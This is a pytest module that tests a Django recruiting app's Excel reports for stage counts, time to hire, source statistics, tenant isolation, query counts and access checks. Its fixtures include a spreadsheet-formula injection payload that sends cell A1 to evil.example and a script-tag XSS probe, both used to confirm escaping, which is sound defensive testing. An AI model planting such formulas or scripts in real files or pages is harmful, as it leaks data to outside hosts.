"""Recruiting Excel reports: the numbers against a pipeline made here (with exact timestamps),
formula escaping, tenant isolation, constant query counts, and the download views (permissions,
parameters, audit line)."""

import datetime
import re
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from people.roles import Role
from people.tenancy import tenant_context
from recruiting.admin_views import NAVIGATION
from recruiting.models import (
    Application,
    ApplicationStatus,
    ApplicationStatusChange,
    InterviewStatus,
    JobStatus,
    OfferStatus,
    Source,
)
from recruiting.reports import (
    XLSX_CONTENT_TYPE,
    build_funnel_report,
    build_source_effectiveness_report,
    build_time_to_hire_report,
    funnel_report,
    source_effectiveness_report,
    time_to_hire_report,
)
from recruiting.services.pipeline import apply, move_application
from tests.conftest import login, make_member
from tests.recruiting.factories import (
    ApplicationFactory,
    CandidateFactory,
    InterviewFactory,
    JobPostingFactory,
    OfferFactory,
)

pytestmark = pytest.mark.django_db

S = ApplicationStatus
UTC = datetime.UTC
SINCE, UNTIL = datetime.date(2026, 1, 1), datetime.date(2026, 3, 31)
PERIOD = {"since": SINCE, "until": UNTIL}
EVIL_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FUNNEL_URL = "/admin/recruiting/reports/funnel/"
TIME_TO_HIRE_URL = "/admin/recruiting/reports/time-to-hire/"
SOURCES_URL = "/admin/recruiting/reports/sources/"
URLS = [FUNNEL_URL, TIME_TO_HIRE_URL, SOURCES_URL]


def at(year, month, day, hour=10, minute=0) -> datetime.datetime:
    return datetime.datetime(year, month, day, hour, minute, tzinfo=UTC)


def sheet_rows(content: bytes, title: str) -> list[tuple]:
    return list(load_workbook(BytesIO(content))[title].iter_rows(values_only=True))


def all_values(content: bytes) -> set:
    book = load_workbook(BytesIO(content))
    return {value for sheet in book for row in sheet.iter_rows(values_only=True) for value in row}


def application(job, *, applied, moves=(), source=Source.OTHER) -> Application:
    """An application applied at `applied` that made `moves` [(status, when)], with the status
    history the pipeline writes (seconds in the previous status included)."""
    app = ApplicationFactory(job=job, source=source)
    first = ApplicationStatusChange.objects.create(
        application=app, from_status="", to_status=S.PENDING_REVIEW
    )
    changed = [(first.pk, applied)]
    status, since = S.PENDING_REVIEW, applied
    for to_status, when in moves:
        change = ApplicationStatusChange.objects.create(
            application=app,
            from_status=status,
            to_status=to_status,
            seconds_in_previous_status=int((when - since).total_seconds()),
        )
        changed.append((change.pk, when))
        status, since = to_status, when
    for pk, when in changed:  # changed_at and applied_at are auto_now_add
        ApplicationStatusChange.objects.filter(pk=pk).update(changed_at=when)
    Application.objects.filter(pk=app.pk).update(
        applied_at=applied,
        status=status,
        status_changed_at=since,
        hired_at=since if status == S.HIRED else None,
    )
    app.refresh_from_db()
    return app


@pytest.fixture
def pipeline(tenant_a, tenant_b):
    """Tenant A (Europe/Berlin), period 2026-01-01 to 2026-03-31:

    JOB-A1  a1 referral  Jan 5: phone +2d, technical +3d, on-site +4d, final +6d, offer +5d, hired +10d (Feb 4)
            a2 linkedin  Jan 10: phone +1d, technical +2d, rejected
            a3 linkedin  Feb 1: technical +2d (skips phone), on-site +7d, offer +2d, check +3d, hired +6d (Feb 21)
            a4 career    Mar 1: pending;  a5 linkedin Apr 2: after the period
    JOB-A2  (formula title) b0 other 31 Dec 23:30 UTC = 1 Jan in Berlin; b1 referral Jan 20: phone;
            b2 other 31 Mar 21:30 UTC (in); b3 other 31 Mar 22:30 UTC = 1 Apr in Berlin (out)
    JOB-A3  c1 agency applied Dec 1 2025: hired Jan 31 (61 days), filled job
    Tenant B has a job with an application and a hire in the period.
    """
    with tenant_context(tenant_b):
        theirs = JobPostingFactory(title="B job", reference_code="JOB-B1")
        application(
            theirs,
            applied=at(2026, 1, 2),
            moves=[(S.PHONE_SCREEN, at(2026, 1, 3)), (S.OFFER, at(2026, 1, 4)), (S.HIRED, at(2026, 1, 5))],
            source=Source.AGENCY,
        )
    tenant_a.timezone = "Europe/Berlin"
    tenant_a.save()
    with tenant_context(tenant_a):
        j1 = JobPostingFactory(title="Backend engineer", reference_code="JOB-A1")
        j2 = JobPostingFactory(title=EVIL_TITLE, reference_code="JOB-A2")
        j3 = JobPostingFactory(title="Designer", reference_code="JOB-A3", status=JobStatus.FILLED)
        a1 = application(
            j1,
            applied=at(2026, 1, 5),
            moves=[
                (S.PHONE_SCREEN, at(2026, 1, 7)),
                (S.TECHNICAL, at(2026, 1, 10)),
                (S.ONSITE_1, at(2026, 1, 14)),
                (S.FINAL, at(2026, 1, 20)),
                (S.OFFER, at(2026, 1, 25)),
                (S.HIRED, at(2026, 2, 4)),
            ],
            source=Source.REFERRAL,
        )
        a2 = application(
            j1,
            applied=at(2026, 1, 10),
            moves=[
                (S.PHONE_SCREEN, at(2026, 1, 11)),
                (S.TECHNICAL, at(2026, 1, 13)),
                (S.REJECTED, at(2026, 1, 15)),
            ],
            source=Source.LINKEDIN,
        )
        a3 = application(
            j1,
            applied=at(2026, 2, 1),
            moves=[
                (S.TECHNICAL, at(2026, 2, 3)),
                (S.ONSITE_1, at(2026, 2, 10)),
                (S.OFFER, at(2026, 2, 12)),
                (S.BACKGROUND_CHECK, at(2026, 2, 15)),
                (S.HIRED, at(2026, 2, 21)),
            ],
            source=Source.LINKEDIN,
        )
        application(j1, applied=at(2026, 3, 1), source=Source.CAREER_PAGE)
        a5 = application(j1, applied=at(2026, 4, 2), source=Source.LINKEDIN)
        application(j2, applied=at(2025, 12, 31, 23, 30))
        b1 = application(
            j2, applied=at(2026, 1, 20), moves=[(S.PHONE_SCREEN, at(2026, 1, 21))], source=Source.REFERRAL
        )
        application(j2, applied=at(2026, 3, 31, 21, 30))
        application(j2, applied=at(2026, 3, 31, 22, 30))
        c1 = application(
            j3,
            applied=at(2025, 12, 1),
            moves=[
                (S.PHONE_SCREEN, at(2025, 12, 3)),
                (S.TECHNICAL, at(2025, 12, 10)),
                (S.ONSITE_1, at(2025, 12, 20)),
                (S.FINAL, at(2026, 1, 5)),
                (S.OFFER, at(2026, 1, 10)),
                (S.HIRED, at(2026, 1, 31)),
            ],
            source=Source.AGENCY,
        )
        # Interviews: completed ones count, others do not; c1 and a5 are outside the cohort.
        for app, status in [
            (a1, InterviewStatus.COMPLETED),
            (a1, InterviewStatus.COMPLETED),
            (a1, InterviewStatus.CANCELLED),
            (b1, InterviewStatus.SCHEDULED),
            (a2, InterviewStatus.COMPLETED),
            (a3, InterviewStatus.COMPLETED),
            (a3, InterviewStatus.NO_SHOW),
            (c1, InterviewStatus.COMPLETED),
            (a5, InterviewStatus.COMPLETED),
        ]:
            InterviewFactory(application=app, status=status)
        # Offers: made = sent (sent_at) or answered; a draft withdrawn before sending is not.
        OfferFactory(application=a1, status=OfferStatus.ACCEPTED, sent_at=at(2026, 1, 25))
        OfferFactory(application=a3, status=OfferStatus.ACCEPTED, sent_at=at(2026, 2, 12))
        OfferFactory(application=a3, status=OfferStatus.WITHDRAWN)
        OfferFactory(application=a2, status=OfferStatus.DECLINED)
        OfferFactory(application=c1, status=OfferStatus.ACCEPTED, sent_at=at(2026, 1, 10))
    return tenant_a


# --- funnel -------------------------------------------------------------------------------------
FUNNEL_HEADER = (
    "Reference",
    "Job",
    "Job status",
    "Applications",
    "Phone screening",
    "% of previous",
    "Technical assessment",
    "% of previous",
    "In person, round 1",
    "% of previous",
    "Final interview",
    "% of previous",
    "Offer",
    "% of previous",
    "Background check",
    "% of previous",
    "Hired",
    "% of previous",
)


def test_funnel_counts_the_stages_each_job_s_applications_reached(pipeline):
    with tenant_context(pipeline):
        rows = sheet_rows(funnel_report(**PERIOD), "Funnel")
    assert rows[0][0] == "Funnel per job: applications received, 2026-01-01 to 2026-03-31"
    assert rows[1] == FUNNEL_HEADER
    assert rows[2:] == [
        # a1-a4, cumulative: a3 skipped the phone screen and the final round, a1 the background
        # check, and each still counts for them (it got further); a2 (rejected) counts up to
        # technical, the furthest it reached; a4 is pending review.
        ("JOB-A1", "Backend engineer", "Published for recruitment", 4, 3, 75, 3, 100, 2, 66.7, 2, 100, 2, 100, 2, 100, 2, 100),
        # b0 and b2 are on the period's edges in Berlin time; b3 is after it.
        ("JOB-A2", EVIL_TITLE, "Published for recruitment", 3, 1, 33.3, 0, 0, 0, None, 0, None, 0, None, 0, None, 0, None),
        ("Total", None, None, 7, 4, 57.1, 3, 75, 2, 66.7, 2, 100, 2, 100, 2, 100, 2, 100),
    ]  # fmt: skip


def funnel_counts(since=SINCE, until=UNTIL) -> list[tuple]:
    """The funnel's Total row as (reached, % of previous) pairs, Applications first."""
    total = sheet_rows(funnel_report(since=since, until=until), "Funnel")[-1]
    return [total[3], *zip(total[4::2], total[5::2], strict=True)]


@pytest.mark.parametrize(
    ("moves", "reached"),
    [
        # Straight to technical, then rejected: counts for the phone screen and technical.
        ([(S.TECHNICAL, at(2026, 1, 3)), (S.REJECTED, at(2026, 1, 4))], 2),
        # Withdrawn at the offer after skipping the phone screen and the final round.
        (
            [
                (S.TECHNICAL, at(2026, 1, 3)),
                (S.ONSITE_1, at(2026, 1, 4)),
                (S.OFFER, at(2026, 1, 5)),
                (S.WITHDRAWN, at(2026, 1, 6)),
            ],
            5,
        ),
        # Hired from the offer stage, no background check: every stage counts.
        ([(S.TECHNICAL, at(2026, 1, 3)), (S.ONSITE_1, at(2026, 1, 4)), (S.OFFER, at(2026, 1, 5)),
          (S.HIRED, at(2026, 1, 9))], 7),
        # Rejected straight from pending review: no stage.
        ([(S.REJECTED, at(2026, 1, 3))], 0),
    ],
)  # fmt: skip
def test_funnel_counts_skipped_stages_up_to_the_furthest_one_reached(tenant_a, moves, reached):
    with tenant_context(tenant_a):
        application(JobPostingFactory(reference_code="JOB-X"), applied=at(2026, 1, 2), moves=moves)
        counts = funnel_counts()
    # Reached stages convert 100 % of the previous column, the first one not reached 0 %, the rest
    # have nothing to divide by.
    expected = [(1, 100) if i < reached else (0, 0 if i == reached else None) for i in range(7)]
    assert counts == [1, *expected]


def test_funnel_conversions_never_exceed_100_percent(tenant_a):
    """Applications that skip stages in every combination the pipeline allows, together with ones
    that go through each stage: every stage's count is at most the previous one's."""
    with tenant_context(tenant_a):
        job = JobPostingFactory(reference_code="JOB-X")
        day = iter(range(3, 28))
        paths = [
            [S.TECHNICAL, S.FINAL, S.OFFER, S.HIRED],
            [S.PHONE_SCREEN, S.ONSITE_1, S.OFFER, S.BACKGROUND_CHECK, S.REJECTED],
            [S.TECHNICAL, S.WITHDRAWN],
            [S.PHONE_SCREEN],
            [S.PHONE_SCREEN, S.TECHNICAL, S.ONSITE_1, S.FINAL, S.OFFER, S.BACKGROUND_CHECK, S.HIRED],
        ]
        for path in paths:
            application(job, applied=at(2026, 1, 2), moves=[(s, at(2026, 1, next(day))) for s in path])
        counts = funnel_counts()
    assert counts[0] == 5
    reached = [count for count, _ in counts[1:]]
    assert reached == [5, 4, 3, 3, 3, 3, 2]
    assert all(percent is None or percent <= 100 for _, percent in counts[1:])


def test_funnel_escapes_a_job_title_that_looks_like_a_formula(pipeline):
    with tenant_context(pipeline):
        content = funnel_report(**PERIOD)
    sheet = load_workbook(BytesIO(content))["Funnel"]
    cell = next(row[1] for row in sheet.iter_rows(min_row=3) if row[0].value == "JOB-A2")
    assert (cell.value, cell.data_type, cell.quotePrefix) == (EVIL_TITLE, "s", True)
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_funnel_of_an_empty_period_is_a_zero_totals_row(pipeline):
    with tenant_context(pipeline):
        report = build_funnel_report(since=datetime.date(2020, 1, 1), until=datetime.date(2020, 12, 31))
    rows = sheet_rows(report.content, "Funnel")
    assert report.rows == 0
    assert rows[2:] == [("Total", None, None, 0, *([0, None] * 7))]


def test_funnel_reads_the_history_the_pipeline_services_write(tenant_a):
    with tenant_context(tenant_a):
        job = JobPostingFactory(reference_code="JOB-S1", title="Support")
        first, second = CandidateFactory(), CandidateFactory()
        one = apply(candidate_id=first.pk, job_id=job.pk, source=Source.JOB_BOARD)
        apply(candidate_id=second.pk, job_id=job.pk, source=Source.JOB_BOARD)
        move_application(application_id=one.pk, to_status=S.PHONE_SCREEN)
        move_application(application_id=one.pk, to_status=S.TECHNICAL)
        move_application(application_id=one.pk, to_status=S.REJECTED, note="Not a fit")
        today = datetime.date.today()
        period = {"since": today - datetime.timedelta(days=1), "until": today + datetime.timedelta(days=1)}
        funnel = sheet_rows(funnel_report(**period), "Funnel")
        sources = sheet_rows(source_effectiveness_report(**period), "Sources")
    assert funnel[2][:8] == ("JOB-S1", "Support", "Published for recruitment", 2, 1, 50, 1, 100)
    assert ("Job board", 2, 0, 0, 0, 0, 0, None) in sources


# --- time to hire -------------------------------------------------------------------------------
def test_time_to_hire_per_job_and_overall(pipeline):
    with tenant_context(pipeline):
        report = build_time_to_hire_report(**PERIOD)
    rows = sheet_rows(report.content, "Time to hire")
    assert rows[0][0] == "Time to hire: hires made, 2026-01-01 to 2026-03-31"
    assert rows[1] == (
        "Reference",
        "Job",
        "Hires",
        "Average days to hire",
        "Median days to hire",
        "Average days in Pending review",
        "Average days in Phone screening",
        "Average days in Technical assessment",
        "Average days in In person, round 1",
        "Average days in Final interview",
        "Average days in Offer",
        "Average days in Background check",
    )
    assert rows[2:] == [
        # a1 (30 days) and a3 (20 days); a3 skipped the phone screen.
        ("JOB-A1", "Backend engineer", 2, 25, 25, 2, 3, 5.5, 4, 5, 6.5, 6),
        # c1 applied before the period and was hired in it.
        ("JOB-A3", "Designer", 1, 61, 61, 2, 7, 10, 16, 5, 21, None),
        ("All jobs", None, 3, 37, 30, 2, 5, 7, 8, 5, 11.3, 6),
    ]
    assert report.rows == 2


def test_time_to_hire_of_a_period_without_hires(pipeline):
    with tenant_context(pipeline):
        rows = sheet_rows(time_to_hire_report(since=SINCE, until=datetime.date(2026, 1, 30)), "Time to hire")
    assert rows[2:] == [("All jobs", None, 0, *([None] * 9))]


# --- source effectiveness -----------------------------------------------------------------------
def test_source_effectiveness_for_the_applications_received(pipeline):
    with tenant_context(pipeline):
        report = build_source_effectiveness_report(**PERIOD)
    rows = sheet_rows(report.content, "Sources")
    assert rows[0][0] == "Source effectiveness: applications received, 2026-01-01 to 2026-03-31"
    assert rows[1] == (
        "Source",
        "Applications",
        "Interviews held",
        "Offers made",
        "Hires",
        "Offers per 100 applications",
        "Hires per 100 applications",
        "Hires per 100 offers",
    )
    assert rows[2:] == [
        ("Career page", 1, 0, 0, 0, 0, 0, None),
        ("Employee referral", 2, 2, 1, 1, 50, 50, 100),  # a1 (two held, one cancelled), b1 (scheduled)
        ("LinkedIn", 2, 2, 2, 1, 100, 50, 50),  # a2 declined, a3 accepted; a3's withdrawn draft is not made
        ("Job board", 0, 0, 0, 0, None, None, None),
        ("Recruitment agency", 0, 0, 0, 0, None, None, None),  # c1 applied before the period
        ("Bulk import", 0, 0, 0, 0, None, None, None),
        ("Other", 2, 0, 0, 0, 0, 0, None),
        ("Total", 7, 4, 3, 2, 42.9, 28.6, 66.7),
    ]
    assert report.rows == 7


@pytest.mark.parametrize("report", [funnel_report, time_to_hire_report, source_effectiveness_report])
def test_reports_show_only_the_active_tenant(pipeline, tenant_b, report):
    with tenant_context(pipeline):
        values = all_values(report(**PERIOD))
    assert not {"JOB-B1", "B job"} & values
    with tenant_context(tenant_b):
        theirs = all_values(report(**PERIOD))
    assert not {"JOB-A1", "JOB-A2", "JOB-A3", "Backend engineer", EVIL_TITLE} & theirs


# --- constant query counts ----------------------------------------------------------------------
def make_jobs(count: int) -> None:
    for n in range(count):
        job = JobPostingFactory(title=f"Job {n}")
        for source in (Source.LINKEDIN, Source.REFERRAL):
            app = application(
                job,
                applied=at(2026, 1, 5),
                moves=[
                    (S.PHONE_SCREEN, at(2026, 1, 6)),
                    (S.OFFER, at(2026, 1, 8)),
                    (S.HIRED, at(2026, 1, 9)),
                ],
                source=source,
            )
            InterviewFactory(application=app, status=InterviewStatus.COMPLETED)
            OfferFactory(application=app, status=OfferStatus.ACCEPTED, sent_at=at(2026, 1, 8))


@pytest.mark.parametrize(
    ("build", "queries"),
    [(build_funnel_report, 1), (build_time_to_hire_report, 2), (build_source_effectiveness_report, 1)],
)
def test_reports_run_the_same_queries_for_2_and_20_jobs(
    tenant_a, django_assert_max_num_queries, build, queries
):
    with tenant_context(tenant_a):
        make_jobs(2)
        with django_assert_max_num_queries(queries):
            small = build(**PERIOD)
        make_jobs(18)
        with django_assert_max_num_queries(queries):
            large = build(**PERIOD)
    if build is build_source_effectiveness_report:
        assert (small.rows, large.rows) == (len(Source.values),) * 2
    else:
        assert (small.rows, large.rows) == (2, 20)


# --- download views -----------------------------------------------------------------------------
@pytest.fixture
def recruiter_client(client, tenant_a, role_groups):
    return login(client, make_member(tenant_a, Role.RECRUITER, email="recruiter@tenant-a.test"), tenant_a)


@pytest.fixture
def finance_client(client, tenant_a, role_groups):
    return login(client, make_member(tenant_a, Role.FINANCE, email="finance@tenant-a.test"), tenant_a)


def test_urls_and_navigation():
    assert [reverse(name) for name in ("admin:recruiting_funnel_report",)] == [FUNNEL_URL]
    assert reverse("admin:recruiting_time_to_hire_report") == TIME_TO_HIRE_URL
    assert reverse("admin:recruiting_source_effectiveness_report") == SOURCES_URL
    assert [reverse(item["url_name"]) for item in NAVIGATION] == URLS
    assert {(item["icon"], item["permission"]) for item in NAVIGATION} == {
        ("download", "recruiting.view_application")
    }


@pytest.mark.parametrize(
    ("url", "title", "audit_name", "rows", "last_row_start"),
    [
        (FUNNEL_URL, "Funnel", "recruiting.funnel", 2, ("Total", None, None, 7)),
        (TIME_TO_HIRE_URL, "Time to hire", "recruiting.time_to_hire", 2, ("All jobs", None, 3)),
        (SOURCES_URL, "Sources", "recruiting.source_effectiveness", 7, ("Total", 7)),
    ],
)
def test_recruiter_downloads_each_report(
    recruiter_client, pipeline, caplog, url, title, audit_name, rows, last_row_start
):
    with caplog.at_level("INFO", logger="audit"):
        response = recruiter_client.get(url, {"since": "2026-01-01", "until": "2026-03-31"})
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    slug = url.rstrip("/").rsplit("/", 1)[1]
    assert (
        response["Content-Disposition"]
        == f'attachment; filename="recruiting-{slug}-2026-01-01-to-2026-03-31.xlsx"'
    )
    content = response.getvalue()
    last = sheet_rows(content, title)[-1]
    assert last[: len(last_row_start)] == last_row_start
    assert not {"JOB-B1", "B job"} & all_values(content)
    record = next(r for r in caplog.records if r.name == "audit" and hasattr(r, "report"))
    assert (record.user_id, record.tenant_id, record.report, record.rows) == (
        response.wsgi_request.user.pk,
        pipeline.pk,
        audit_name,
        rows,
    )


@pytest.mark.parametrize("url", URLS)
def test_default_period_is_the_last_90_days_in_the_tenant_s_time_zone(recruiter_client, tenant_a, url):
    response = recruiter_client.get(url)
    assert response.status_code == 200
    match = re.search(
        r'filename="recruiting-[a-z-]+-(\d{4}-\d{2}-\d{2})-to-(\d{4}-\d{2}-\d{2})\.xlsx"',
        response["Content-Disposition"],
    )
    since, until = (datetime.date.fromisoformat(value) for value in match.groups())
    assert until - since == datetime.timedelta(days=89)
    assert abs(until - datetime.date.today()) <= datetime.timedelta(days=1)  # "today" is the tenant's


@pytest.mark.parametrize("url", URLS)
def test_reports_refuse_users_without_the_permission(finance_client, client, tenant_a, url):
    assert finance_client.get(url).status_code == 403
    client.logout()  # anonymous: the admin's login page
    response = client.get(url)
    assert response.status_code == 302 and response["Location"].startswith("/admin/login/")


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"since": "2026-13-01"}, "since and until must be dates written YYYY-MM-DD"),
        ({"until": "31.03.2026"}, "since and until must be dates written YYYY-MM-DD"),
        ({"since": "<script>alert(1)</script>"}, "since and until must be dates written YYYY-MM-DD"),
        ({"until": "9999-12-31"}, "since and until must be dates written YYYY-MM-DD"),
        ({"since": "0001-01-01", "until": "2026-01-01"}, "since and until must be dates written YYYY-MM-DD"),
        ({"since": "2026-03-02", "until": "2026-03-01"}, "since must be on or before until"),
    ],
)
@pytest.mark.parametrize("url", URLS)
def test_reports_answer_400_to_bad_parameters(recruiter_client, url, params, message):
    response = recruiter_client.get(url, params)
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/plain")
    body = response.content.decode()
    assert message in body and "<script>" not in body and "31.03" not in body


def test_reports_are_get_only(recruiter_client):
    assert recruiter_client.post(FUNNEL_URL).status_code == 405


def test_sidebar_links_the_reports_for_recruiters_only(recruiter_client, client, tenant_a, role_groups):
    page = recruiter_client.get("/admin/").content.decode()
    assert all(url in page for url in URLS)
    finance = login(client, make_member(tenant_a, Role.FINANCE, email="finance@tenant-a.test"), tenant_a)
    page = finance.get("/admin/").content.decode()
    assert not any(url in page for url in URLS)
